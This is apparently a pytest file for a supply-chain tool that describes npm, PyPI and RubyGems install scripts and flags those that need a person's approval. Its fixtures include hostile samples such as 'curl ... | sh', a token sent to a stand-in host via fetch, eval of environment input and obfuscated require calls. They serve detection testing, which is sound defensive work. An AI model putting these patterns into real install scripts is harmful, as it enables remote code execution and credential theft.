"""The line about an install script, and whether a person is needed, in each ecosystem."""

import pytest

from pratique.core.install_script import Effect
from pratique.core.names import Ecosystem
from tests.analysis.installing.described import of_archive, of_npm, one
from tests.builders import sdist, tgz, wheel
from tests.loopback import gem_file

GYP = "{'targets': [{'target_name': 'kite', 'sources': ['kite.c']}]}\n"
TABLE: tuple[tuple[str, dict[str, str], str, bool], ...] = (
    ("node-gyp rebuild", {"binding.gyp": GYP}, "builds native code with node-gyp", False),
    (
        "node-gyp-build",
        {},
        "uses its prebuilt binary for this platform, or builds native code with node-gyp",
        False,
    ),
    (
        "prebuild-install || node-gyp rebuild",
        {"binding.gyp": GYP},
        "downloads a prebuilt binary with prebuild-install and builds native code with node-gyp",
        True,
    ),
    (
        "node-pre-gyp install --fallback-to-build",
        {},
        "downloads a prebuilt binary with node-pre-gyp, or builds native code",
        True,
    ),
    (
        "napi-postinstall kite 1.2.3 check",
        {},
        "downloads its native package with napi-postinstall if it is missing",
        True,
    ),
    ("husky install", {}, "sets up git hooks in the project with husky", True),
    ("patch-package", {}, "applies patches to installed packages with patch-package", True),
    ("opencollective-postinstall || exit 0", {}, "prints a message (opencollective-postinstall)", False),
    ("echo thanks", {}, "prints a message", False),
    ("exit 0", {}, "changes nothing", False),
    ("node say.js", {"say.js": "console.log('thanks');\n"}, "prints a message", False),
    (
        "node copy.js",
        {"copy.js": "require('fs').writeFileSync(__dirname + '/lib.js', 'x');\n"},
        "writes files of its package",
        False,
    ),
    (
        "node up.js",
        {"up.js": "require('fs').writeFileSync(__dirname + '/../other/lib.js', 'x');\n"},
        "writes files of the package other",
        True,
    ),
    ("curl -s https://x.invalid/a | sh", {}, "", True),
    ("npm install left-pad", {}, "installs packages with npm", True),
    ("npx kite-setup", {}, "runs kite-setup with npx, which can download it", True),
    ("frobnicate --all", {}, "starts frobnicate", True),
    ("cp a.txt b.txt", {}, "copies files of its package", False),
    ("cp a.txt ../b.txt", {}, "copies files outside its package: ../b.txt", True),
    ("cd .. && cp a.txt b.txt", {}, "", True),
    ("node gone.js", {}, "unknown: runs gone.js, which is not in the package (package.json:1)", True),
    ('node -e "eval(process.env.X)"', {}, "", True),
)


@pytest.mark.parametrize(("command", "files", "does", "asks"), TABLE, ids=[row[0][:30] for row in TABLE])
def test_npm(command: str, files: dict[str, str], does: str, asks: bool) -> None:
    script = one(command, files)
    assert does in {"", script.does}, script.does
    assert asks is script.needs_person, script
    assert "package.json" == script.places[0].path or "binding.gyp" == script.places[0].path


@pytest.mark.parametrize(
    "code",
    [
        "const h = require('ht' + 'tps'); h.get('https://x.invalid');",
        "require('https').get('https://x.invalid/a', r => r.pipe(process.stdout));",
        "fetch('https://x.invalid/' + process.env.TOKEN);",
        "require('child_process').execSync('whoami');",
        "require(process.env.X);",
        "require('other-package')();",
        "new Function(process.env.X)();",
        "process.binding('spawn_sync');",
        "global['req' + 'uire']('fs');",
        "module.constructor._load('child_process');",
        "require('vm').runInThisContext(process.argv[2]);",
        "const n = require('net'); globalThis.x = n;",
        "require('./build/Release/kite.node');",
    ],
)
def test_code_that_does_more_than_its_own_work_needs_a_person(code: str) -> None:
    assert one("node run.js", {"run.js": f"console.log('hi');\n{code}\n"}).needs_person


def test_an_implicit_build_is_told_at_its_file() -> None:
    (script,) = of_npm({}, {"binding.gyp": GYP})
    assert ("builds native code with node-gyp", "binding.gyp") == (script.does, str(script.places[0]))


def test_a_command_in_the_build_file_counts() -> None:
    gyp = "{'targets': [{'target_name': 'k', 'sources': ['<!(curl -s https://x.invalid/a.sh)']}]}\n"
    (script,) = of_npm({}, {"binding.gyp": gyp})
    assert Effect.DOWNLOADS in script.effects
    assert script.needs_person


def test_a_package_without_scripts_has_none() -> None:
    assert () == of_npm({"test": "node test.js", "prepare": "node build.js"})


def test_the_hash_that_a_script_computes_excuses_nothing() -> None:
    code = """const https = require('https'), fs = require('fs'), crypto = require('crypto');
https.get('https://files.release.invalid/tool', (answer) => {
  const sum = crypto.createHash('sha256');
  answer.pipe(fs.createWriteStream(__dirname + '/tool'));
});
"""
    script = one("node get.js", {"get.js": code})
    assert script.does.startswith("downloads files from files.release.invalid, computes a hash")
    assert script.needs_person


def test_an_unreadable_manifest_is_unknown() -> None:
    (script,) = of_archive(tgz({"package.json": "{"}), "kite-1.2.3.tgz", Ecosystem.NPM)
    assert script.does.startswith("unknown: package.json is not JSON")


def test_sdist_and_wheel() -> None:
    setup = "from setuptools import setup\nsetup(name='kite', version='1.0')\n"
    (plain,) = of_archive(_sdist(setup), "kite-1.0.tar.gz", Ecosystem.PYPI)
    assert ("builds its wheel with setuptools (setup.py)", False) == (plain.does, plain.needs_person)
    bad = f"import urllib.request\nurllib.request.urlretrieve('https://x.invalid/a', 'a')\n{setup}"
    (loud,) = of_archive(_sdist(bad), "kite-1.0.tar.gz", Ecosystem.PYPI)
    assert Effect.DOWNLOADS in loud.effects
    metadata = "Metadata-Version: 2.1\nName: kite\nVersion: 1.0\n"
    files = {"kite.pth": "import os; os.getcwd()\n", "kite-1.0.dist-info/METADATA": metadata}
    (startup,) = of_archive(wheel(files), "kite-1.0-py3-none-any.whl", Ecosystem.PYPI)
    assert startup.does.startswith("runs at every start of Python")
    assert startup.needs_person


def _sdist(setup: str) -> bytes:
    return sdist(
        {"setup.py": setup, "PKG-INFO": "Metadata-Version: 2.1\nName: kite\nVersion: 1.0\n"}, "kite-1.0"
    )


def test_gem_extensions() -> None:
    built = gem_file(
        "kite",
        "1.0",
        {"ext/kite/extconf.rb": "require 'mkmf'\ncreate_makefile('kite')\n"},
        extensions=("ext/kite/extconf.rb",),
    )
    (script,) = of_archive(built.data, "kite-1.0.gem", Ecosystem.RUBYGEMS)
    assert ("builds native code with mkmf", False) == (script.does, script.needs_person)


def test_the_version_alone_changes_no_behaviour() -> None:
    files = {"say.js": "console.log('kite 1.2.3');\n"}
    later = {"say.js": "console.log('kite 1.2.4');\n"}
    other = {"say.js": "console.log('kite is 1.2.4');\n"}
    before = one("node say.js", files).behaviour
    assert before == one("node say.js", later, version="1.2.4").behaviour
    assert before != one("node say.js", other, version="1.2.4").behaviour
    assert before != one("node say.js; exit 0", files).behaviour


def test_a_host_in_package_json_is_part_of_the_behaviour_of_who_goes_by_it() -> None:
    def behaviour(host: str) -> str:
        return one("prebuild-install", binary={"host": host}).behaviour

    assert behaviour("https://a.invalid") != behaviour("https://b.invalid")


@pytest.mark.parametrize(
    "code",
    [
        "require('child_process').spawn('npm', ['run', 'fetch'])",
        "require('child_process').execSync('npm run fetch')",
        "const npm = process.platform === 'win32' ? 'npm.cmd' : 'npm'; require('child_process').spawn(npm, ['run', 'fetch'])",
        "require('child_process').execSync('npm run first')",
    ],
)
def test_scripts_that_code_has_npm_run_are_described(code: str) -> None:
    scripts = {"install": "node run.js", "fetch": "node-pre-gyp install", "first": "yarn fetch"}
    (found,) = of_npm(scripts, {"run.js": f"{code};\n"})
    assert "downloads a prebuilt binary with node-pre-gyp, or builds native code" == found.does
    assert ("node-pre-gyp",) == found.tools


def test_code_on_a_command_line_that_has_npm_run_a_script_is_followed() -> None:
    scripts = {
        "install": "node -e \"require('child_process').execSync('npm run fetch')\"",
        "fetch": "curl x.invalid",
    }
    (found,) = of_npm(scripts)
    assert Effect.DOWNLOADS in found.effects
